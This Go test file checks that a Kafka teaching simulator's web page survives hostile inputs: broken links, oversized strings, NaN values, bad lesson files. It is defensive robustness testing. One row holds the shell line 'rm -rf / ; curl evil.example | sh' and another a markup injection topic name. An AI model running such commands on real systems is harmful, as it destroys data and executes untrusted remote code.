package page

import (
	"encoding/json"
	"fmt"
	"math"
	"os"
	"reflect"
	"strings"
	"testing"

	"highwater/lessons"
	"highwater/sim/node"
)

// hostileLinks are links that a stranger might send, by name. They were made once and stay as they are.
func hostileLinks(t *testing.T) map[string]string {
	t.Helper()
	text, err := os.ReadFile("testdata/hostile-links.txt")
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{"long": strings.Repeat("A", 2<<20), "sign": "AVIw Mk", "empty": "AQ"}
	for line := range strings.Lines(string(text)) {
		name, link, _ := strings.Cut(strings.TrimSpace(line), " ")
		out[name] = link
	}
	return out
}

// hostile is one thing that a stranger might do to the page.
type hostile struct {
	what string
	do   func(s *Session) Answer
}

func followed(links map[string]string, name string) func(*Session) Answer {
	return func(s *Session) Answer {
		return s.Boot(sent{"lesson": lessons.HomeID, "link": links[name], "theme": "light",
			"reducedMotion": false, "progress": map[string]string{}})
	}
}

func wished(op string, args sent) func(*Session) Answer {
	return func(s *Session) Answer { return s.Do(op, args) }
}

func loadedText(text string) func(*Session) Answer { return wished("load-lesson", sent{"text": text}) }

func hostileRows(t *testing.T) []hostile {
	t.Helper()
	links, long := hostileLinks(t), strings.Repeat("x", 10<<20)
	head := "---\ntitle: T\n---\n## S\n"
	return []hostile{
		{"a link that was cut", followed(links, "cut")},
		{"a link with another character", followed(links, "changed")},
		{"a link with a blank in it", followed(links, "sign")},
		{"two characters instead of a link", followed(links, "empty")},
		{"a link of 2 MB", followed(links, "long")},
		{"a link that unpacks to 8 MB", followed(links, "bomb")},
		{"a link of a later version", followed(links, "version")},
		{"a link of a lesson that nobody has", followed(links, "lesson")},
		{"a link of somebody's lesson file", followed(links, "file")},
		{"a link whose list of commands ends", followed(links, "ends")},
		{"a link with 1,073,741,824 brokers", followed(links, "brokers")},
		{"a link whose messages take years", followed(links, "latency")},
		{"a link with num.partitions=2000000000", followed(links, "setting")},
		{"a link with 5,000 settings", followed(links, "settings")},
		{"a link to step 1,099,511,627,777 of its lesson", followed(links, "page")},
		{"a link with a command of no kind", followed(links, "kind")},
		{"a link that goes back in time", followed(links, "order")},
		{"a link with 30,000 bad lines", followed(links, "many")},
		{"a link with 300,000 records in one line", followed(links, "records")},
		{"a link to event 3,000,000", followed(links, "step")},
		{"a link to the 29th day", followed(links, "month")},
		{"a console line of 10 MB", wished("run", sent{"line": long})},
		{"a cell of 10 MB", wished("run", sent{"line": long, "cell": 0.0})},
		{"Tab on a line of 10 MB", wished("complete", sent{"line": long, "pos": 1.0})},
		{"16 MB sent to the bridge", func(*Session) Answer { return TooMuch(16 << 20) }},
		{"a wish that isn't one", wished("format-disk", sent{})},
		{"NaN as a time", wished("seek", sent{"us": math.NaN()})},
		{"an infinite number of seconds", wished("second", sent{"n": math.Inf(1)})},
		{"step 2^53", wished("goto", sent{"step": math.Ldexp(1, 53)})},
		{"half a choice", wished("predict", sent{"choice": 0.5})},
		{"a speed of -1", wished("speed", sent{"x": -1.0})},
		{"a zoom of 0", wished("zoom", sent{"x": 0.0})},
		{"a broker's name of 10 MB", wished("select", sent{"ref": long})},
		{"99:99 on the clock", wished("clock", sent{"time": "99:99"})},
		{"two weeks ahead on the clock", wished("clock", sent{"time": "336:00:00"})},
		{"a lesson file of 10 MB", loadedText(long)},
		{"a lesson file without a title", loadedText("---\n---\n## S\n")},
		{"a lesson file that asks for 1,000 brokers", loadedText("---\ntitle: T\nbrokers: 1000\n---\n## S\n")},
		{"a lesson file with a line of 100 kB", loadedText(head + long[:100_000])},
		{"a lesson file with 10,000 setup lines in the wrong place",
			loadedText(head + "x\n```setup\n" + strings.Repeat("help\n", 10_000) + "```\n")},
		{"a lesson file whose goal is no predicate", loadedText(head + "x\n```goal\nG :: all is well\n```\n")},
		{"a lesson file that isn't text", loadedText("\x00\xff\x00PNG")},
		{"a topic of 2,000,000,000 partitions", wished("run", sent{"line": "kafka-topics.sh --create --topic t " +
			"--partitions 2000000000 --bootstrap-server broker-1:9092"})},
		{"markup as a topic", wished("run", sent{"line": "kafka-topics.sh --create --topic '<img src=x>' " +
			"--bootstrap-server broker-1:9092"})},
		{"a command of bash", wished("run", sent{"line": "rm -rf / ; curl evil.example | sh"})},
	}
}

// said is what a person sees: the answer, and if it has no words, what the console prints next.
func (s *Session) said(a Answer, before int) string {
	switch {
	case a.Notice != "":
		return a.Notice
	case a.Error != "":
		return a.Error
	case a.More:
		return "(the console waits for the rest of the line)"
	case s.Player.Errands():
		text, stop := s.Player.Errand()
		if s.arrive(); s.news != nil {
			return text + " [" + stop + "] " + s.news.Text
		}
		before = 0
	}
	s.Player.Seek(s.Player.Now() + 5*node.Second)
	lines := s.Player.Console(100)
	var text []string
	for _, l := range lines[min(before+1, len(lines)):] {
		text = append(text, l.Text)
	}
	return strings.Join(text, " / ")
}

// Whatever a stranger sends, a person gets a sentence, and the page goes on.
func TestHostileInputs(t *testing.T) {
	ls, err := lessons.Load()
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	out.WriteString("| what comes | what a person sees | what is open then |\n| --- | --- | --- |\n")
	rows := hostileRows(t)
	if len(rows) < 40 {
		t.Errorf("there are only %d rows", len(rows))
	}
	for _, row := range rows {
		s := NewSession(func() []*lessons.Lesson { return ls })
		s.Stage = &board{zoom: 1}
		s.Open("keys")
		before := len(s.Player.Console(100))
		answer := row.do(s)
		if !json.Valid([]byte(answer.JSON())) {
			t.Errorf("%s: %s", row.what, answer.JSON())
		}
		text := s.said(answer, before)
		if text == "" || len(text) > 900 {
			t.Errorf("%s: a person sees %.300q", row.what, text)
		}
		fit(t, "State", reflect.TypeOf(State{}), decoded(t, s))
		if s.Do("step", sent{}); len(s.State()) > 1<<20 {
			t.Errorf("%s: the state has %d bytes", row.what, len(s.State()))
		}
		fmt.Fprintf(&out, "| %s | %s | %s |\n", row.what, strings.ReplaceAll(text, "|", `\|`), s.Course.Lesson.ID)
	}
	const golden = "testdata/hostile.md"
	if *update {
		if err := os.WriteFile(golden, []byte(out.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if want, err := os.ReadFile(golden); err != nil || string(want) != out.String() {
		t.Errorf("%s is old (%v): go test ./web/page -update, and read it:\n%s", golden, err, out.String())
	}
}
